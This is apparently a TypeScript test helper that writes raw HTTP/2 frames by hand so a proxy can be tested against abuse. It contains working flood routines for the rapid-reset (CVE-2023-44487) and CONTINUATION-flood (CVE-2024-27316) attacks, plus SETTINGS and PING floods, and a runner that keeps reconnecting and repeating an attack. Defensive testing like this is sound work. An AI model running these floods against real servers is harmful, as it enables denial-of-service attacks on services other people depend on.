// Raw HTTP/2 over TLS (ALPN h2) for abuse tests: exact frames out, every frame that comes back
// parsed and kept. node:http2 as a client refuses to send what these tests need (RST_STREAM
// floods, endless CONTINUATION, a window of zero never granted), so frames are written by hand.
// Header blocks are HPACK literals without indexing or Huffman (RFC 7541 6.2.2), which any
// decoder accepts; what the server sends back is not decoded beyond frame headers, except
// `statusOf`, which reads the :status of a block that starts with it.

import { readFileSync } from 'node:fs';
import { connect as tlsConnect, createSecureContext, type SecureContext, type TLSSocket } from 'node:tls';
import { fileURLToPath } from 'node:url';

export const FRAME = { DATA: 0x0, HEADERS: 0x1, PRIORITY: 0x2, RST_STREAM: 0x3, SETTINGS: 0x4, PUSH_PROMISE: 0x5, PING: 0x6, GOAWAY: 0x7, WINDOW_UPDATE: 0x8, CONTINUATION: 0x9 } as const;
export const FLAG = { END_STREAM: 0x1, ACK: 0x1, END_HEADERS: 0x4 } as const;
export const SETTING = { HEADER_TABLE_SIZE: 0x1, ENABLE_PUSH: 0x2, MAX_CONCURRENT_STREAMS: 0x3, INITIAL_WINDOW_SIZE: 0x4, MAX_FRAME_SIZE: 0x5, MAX_HEADER_LIST_SIZE: 0x6 } as const;
export const ERROR = { NO_ERROR: 0x0, PROTOCOL_ERROR: 0x1, INTERNAL_ERROR: 0x2, FLOW_CONTROL_ERROR: 0x3, REFUSED_STREAM: 0x7, CANCEL: 0x8, COMPRESSION_ERROR: 0x9, ENHANCE_YOUR_CALM: 0xb } as const;

const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 'latin1');

export interface Frame {
  type: number;
  flags: number;
  streamId: number;
  payload: Buffer;
}

export interface Goaway {
  lastStreamId: number;
  errorCode: number;
  debug: string;
  /** Milliseconds from the connection being open. */
  afterMs: number;
}

export function frame(type: number, flags: number, streamId: number, payload: Buffer = Buffer.alloc(0)): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(streamId & 0x7fffffff, 5);
  return Buffer.concat([head, payload]);
}

export function settingsFrame(settings: Partial<Record<keyof typeof SETTING, number>> = {}): Buffer {
  const entries = Object.entries(settings);
  const payload = Buffer.alloc(entries.length * 6);
  entries.forEach(([name, value], i) => {
    payload.writeUInt16BE(SETTING[name as keyof typeof SETTING], i * 6);
    payload.writeUInt32BE(value as number, i * 6 + 2);
  });
  return frame(FRAME.SETTINGS, 0, 0, payload);
}

export const settingsAck = (): Buffer => frame(FRAME.SETTINGS, FLAG.ACK, 0);
export const pingFrame = (data = Buffer.alloc(8)): Buffer => frame(FRAME.PING, 0, 0, data);

export function rstStreamFrame(streamId: number, errorCode: number = ERROR.CANCEL): Buffer {
  const payload = Buffer.alloc(4);
  payload.writeUInt32BE(errorCode);
  return frame(FRAME.RST_STREAM, 0, streamId, payload);
}

export function windowUpdateFrame(streamId: number, increment: number): Buffer {
  const payload = Buffer.alloc(4);
  payload.writeUInt32BE(increment);
  return frame(FRAME.WINDOW_UPDATE, 0, streamId, payload);
}

/** An HPACK integer with an `prefixBits`-bit prefix (RFC 7541 5.1). */
function hpackInteger(value: number, prefixBits: number, firstByte: number): number[] {
  const max = (1 << prefixBits) - 1;
  if (value < max) return [firstByte | value];
  const out = [firstByte | max];
  let rest = value - max;
  while (rest >= 128) {
    out.push((rest % 128) + 128);
    rest = Math.floor(rest / 128);
  }
  out.push(rest);
  return out;
}

function hpackString(text: string): Buffer {
  const bytes = Buffer.from(text, 'latin1');
  return Buffer.concat([Buffer.from(hpackInteger(bytes.length, 7, 0)), bytes]);
}

/** A header block of literal fields, without indexing, new names (the server's table is never touched). */
export function headerBlock(fields: [string, string][]): Buffer {
  return Buffer.concat(fields.flatMap(([name, value]) => [Buffer.from([0x00]), hpackString(name), hpackString(value)]));
}

/** The fields of a GET to `path` (with `extra` fields after the pseudo-headers). */
export function getRequest(path: string, extra: [string, string][] = []): [string, string][] {
  return [[':method', 'GET'], [':scheme', 'https'], [':authority', 'localhost'], [':path', path], ...extra];
}

export function headersFrame(streamId: number, block: Buffer, options: { endStream?: boolean; endHeaders?: boolean } = {}): Buffer {
  const flags = ((options.endStream ?? true) ? FLAG.END_STREAM : 0) | ((options.endHeaders ?? true) ? FLAG.END_HEADERS : 0);
  return frame(FRAME.HEADERS, flags, streamId, block);
}

export const continuationFrame = (streamId: number, block: Buffer, endHeaders = false): Buffer => frame(FRAME.CONTINUATION, endHeaders ? FLAG.END_HEADERS : 0, streamId, block);

/**
 * The :status of a response header block, when the server's encoder put it first as an indexed
 * field (200, 204, 206, 304, 400, 404, 500) or a literal with an indexed name and a plain
 * (non-Huffman) value; undefined otherwise.
 */
export function statusOf(block: Buffer): number | undefined {
  const first = block[0];
  if (first === undefined) return undefined;
  const indexed: Record<number, number> = { 8: 200, 9: 204, 10: 206, 11: 304, 12: 400, 13: 404, 14: 500 };
  if (first & 0x80) return indexed[first & 0x7f];
  return undefined;
}

/** One raw HTTP/2 client connection: frames written as given, frames received parsed and counted. */
export class H2Connection {
  readonly openedAt = Date.now();
  readonly frames: Frame[] = [];
  /** Frames received, by type (kept even when `keepFrames` is off). */
  readonly counts = new Map<number, number>();
  goaway: Goaway | undefined;
  /** Milliseconds from open to the socket closing, once it has. */
  closedAfterMs: number | undefined;
  readonly closed: Promise<void>;
  /** Bytes the kernel has not taken yet: a client that writes faster than the server reads. */
  private buffered: Buffer = Buffer.alloc(0);
  private waiters: (() => void)[] = [];

  /** `keepFrames`: keep every frame received (off for floods that would answer with millions). */
  constructor(
    readonly socket: TLSSocket,
    private readonly keepFrames = true,
  ) {
    socket.on('data', (chunk: Buffer) => this.receive(chunk));
    socket.on('error', () => {});
    this.closed = new Promise((resolve) => {
      socket.once('close', () => {
        this.closedAfterMs = Date.now() - this.openedAt;
        this.wake();
        resolve();
      });
    });
  }

  /** The socket is gone (destroyed by either side; 'close' may not have been emitted yet). */
  get isClosed(): boolean {
    return this.closedAfterMs !== undefined || this.socket.destroyed;
  }

  /** Frames of `type` received so far (for a stream, if given). */
  received(type: number, streamId?: number): Frame[] {
    return this.frames.filter((f) => f.type === type && (streamId === undefined || f.streamId === streamId));
  }

  count(type: number): number {
    return this.counts.get(type) ?? 0;
  }

  /**
   * Writes bytes; resolves after an event-loop turn (so a loop of writes still reads the
   * server's answers) and, while the server is not reading, once it has drained; at once if the
   * connection is gone.
   */
  async write(bytes: Buffer): Promise<void> {
    const more = this.socket.destroyed || this.socket.write(bytes);
    await new Promise((resolve) => setImmediate(resolve));
    if (more || this.socket.destroyed) return;
    await new Promise<void>((resolve) => {
      const done = () => {
        this.socket.off('drain', done);
        this.socket.off('close', done);
        resolve();
      };
      this.socket.once('drain', done);
      this.socket.once('close', done);
    });
  }

  /** Resolves once `done()` holds (checked on every frame and on close), or false after `timeoutMs`. */
  async until(done: () => boolean, timeoutMs: number): Promise<boolean> {
    const deadline = Date.now() + timeoutMs;
    while (!done()) {
      const left = deadline - Date.now();
      if (left <= 0) return false;
      await new Promise<void>((resolve) => {
        const timer = setTimeout(resolve, left);
        this.waiters.push(() => {
          clearTimeout(timer);
          resolve();
        });
      });
    }
    return true;
  }

  /** GOAWAY received or the connection closed, whichever first; false after `timeoutMs`. */
  ended(timeoutMs: number): Promise<boolean> {
    return this.until(() => this.goaway !== undefined || this.isClosed, timeoutMs);
  }

  destroy(): void {
    this.socket.destroy();
  }

  private receive(chunk: Buffer): void {
    this.buffered = this.buffered.length === 0 ? chunk : Buffer.concat([this.buffered, chunk]);
    let offset = 0;
    while (this.buffered.length - offset >= 9) {
      const length = this.buffered.readUIntBE(offset, 3);
      if (this.buffered.length - offset < 9 + length) break;
      const received: Frame = {
        type: this.buffered[offset + 3] as number,
        flags: this.buffered[offset + 4] as number,
        streamId: this.buffered.readUInt32BE(offset + 5) & 0x7fffffff,
        payload: this.buffered.subarray(offset + 9, offset + 9 + length),
      };
      offset += 9 + length;
      this.counts.set(received.type, this.count(received.type) + 1);
      // A client that never acknowledges the server's SETTINGS is a different abuse: ack them.
      if (received.type === FRAME.SETTINGS && !(received.flags & FLAG.ACK) && !this.socket.destroyed) this.socket.write(settingsAck());
      if (received.type === FRAME.GOAWAY && !this.goaway) {
        this.goaway = {
          lastStreamId: received.payload.readUInt32BE(0) & 0x7fffffff,
          errorCode: received.payload.readUInt32BE(4),
          debug: received.payload.subarray(8).toString('utf8'),
          afterMs: Date.now() - this.openedAt,
        };
      }
      if (this.keepFrames || received.type === FRAME.GOAWAY) this.frames.push({ ...received, payload: Buffer.from(received.payload) });
    }
    this.buffered = this.buffered.subarray(offset);
    this.wake();
  }

  private wake(): void {
    const waiters = this.waiters;
    this.waiters = [];
    for (const w of waiters) w();
  }
}

export interface H2Options {
  /** PEM of the CA that signed the proxy's serving certificate (or `secureContext`, made with it). */
  ca?: string;
  secureContext?: SecureContext;
  /** Our SETTINGS, sent right after the preface (default: none). */
  settings?: Partial<Record<keyof typeof SETTING, number>>;
  /** Keep every frame received (default true). */
  keepFrames?: boolean;
  cert?: string;
  key?: string;
  /** Our source address (127.0.0.2...: another client as far as the server can tell). */
  localAddress?: string;
}

/** A TLS connection with ALPN h2, the preface and our SETTINGS sent; rejects unless the server picked h2. */
export function openH2(port: number, options: H2Options): Promise<H2Connection> {
  return new Promise((resolve, reject) => {
    const socket = tlsConnect({
      host: '127.0.0.1',
      port,
      ...(options.secureContext ? { secureContext: options.secureContext } : { ca: options.ca }),
      servername: 'localhost',
      ALPNProtocols: ['h2'],
      ...(options.localAddress ? { localAddress: options.localAddress } : {}),
      ...(options.cert ? { cert: options.cert, key: options.key } : {}),
    });
    const timer = setTimeout(() => {
      socket.destroy();
      reject(new Error('TLS handshake timed out'));
    }, 5000);
    socket.once('error', (err) => {
      clearTimeout(timer);
      reject(err);
    });
    socket.once('secureConnect', () => {
      clearTimeout(timer);
      if (socket.alpnProtocol !== 'h2') {
        socket.destroy();
        reject(new Error(`server picked ${String(socket.alpnProtocol)}, not h2`));
        return;
      }
      const connection = new H2Connection(socket, options.keepFrames ?? true);
      socket.write(Buffer.concat([PREFACE, settingsFrame(options.settings)]));
      resolve(connection);
    });
  });
}

/** The floods of test/http2-abuse.test.ts, each on one connection until the server ends it. */
export const ATTACKS = {
  /** CVE-2023-44487: HEADERS and RST_STREAM for stream after stream, `auth` on each request. */
  'rapid-reset': async (c: H2Connection, auth: [string, string][]) => {
    for (let id = 1; !c.isClosed && id < 1 << 30;) {
      const batch: Buffer[] = [];
      for (let i = 0; i < 50; i++, id += 2) batch.push(headersFrame(id, headerBlock(getRequest('/api', auth))), rstStreamFrame(id));
      await c.write(Buffer.concat(batch));
    }
  },
  /** CVE-2024-27316: a header block that never ends. */
  'continuation-flood': async (c: H2Connection) => {
    await c.write(headersFrame(1, headerBlock(getRequest('/api')), { endHeaders: false }));
    for (let n = 0; !c.isClosed;) {
      const batch: Buffer[] = [];
      for (let i = 0; i < 50; i++) batch.push(continuationFrame(1, headerBlock([[`x-filler-${n++}`, 'v'.repeat(64)]])));
      await c.write(Buffer.concat(batch));
    }
  },
  'settings-flood': async (c: H2Connection) => {
    while (!c.isClosed) await c.write(Buffer.concat(Array.from({ length: 50 }, () => settingsFrame({ HEADER_TABLE_SIZE: 4096 }))));
  },
  'ping-flood': async (c: H2Connection) => {
    while (!c.isClosed) await c.write(Buffer.concat(Array.from({ length: 50 }, () => pingFrame())));
  },
};
export type AttackName = keyof typeof ATTACKS;

/**
 * Run as a program (a separate process, so that the attacker's CPU is not the measuring
 * client's): `node --import tsx h2-frames.ts ATTACK PORT CA_FILE LOCAL_ADDRESS [AUTHORIZATION]` prints
 * "ready" once started, and on a line from stdin "attacking", then repeats the attack on a new connection each
 * time the server ends one or refuses it, until stdin closes, then prints one JSON line:
 * connections, refused connections, GOAWAY codes seen, and milliseconds to each ending.
 */
async function attackMain(argv: string[]): Promise<void> {
  const [name, port, caFile, localAddress, authorization] = argv as [AttackName, string, string, string, string | undefined];
  // One context for every attempt: building one per connection would cost this process (on the
  // same cores as the proxy) more CPU than the proxy spends refusing it.
  const secureContext = createSecureContext({ ca: readFileSync(caFile, 'utf8') });
  const auth: [string, string][] = authorization ? [['authorization', authorization]] : [];
  let stop = false;
  let go: () => void = () => {};
  const started = new Promise<void>((resolve) => (go = resolve));
  process.stdin.on('data', () => go());
  process.stdin.on('close', () => {
    stop = true;
    go();
  });
  // Up (this process's own start-up is over): the other client's baseline is measured now.
  process.stdout.write('ready\n');
  await started;
  const endings: { goaway: number | undefined; afterMs: number | undefined }[] = [];
  let refused = 0;
  process.stdout.write('attacking\n');
  while (!stop) {
    const c = await openH2(Number(port), { secureContext, keepFrames: false, localAddress }).catch(() => undefined);
    // Refused (reset before TLS): try again, as an attacker would, without spinning.
    if (!c) {
      refused++;
      await new Promise((resolve) => setTimeout(resolve, 5));
      continue;
    }
    void ATTACKS[name](c, auth);
    const ended = await c.ended(5000);
    endings.push({ goaway: c.goaway?.errorCode, afterMs: ended ? (c.goaway?.afterMs ?? c.closedAfterMs ?? Date.now() - c.openedAt) : undefined });
    c.destroy();
  }
  process.stdout.write(`${JSON.stringify({ connections: endings.length, refused, endings })}\n`);
  process.exit(0);
}

if (process.argv[1] === fileURLToPath(import.meta.url)) await attackMain(process.argv.slice(2));
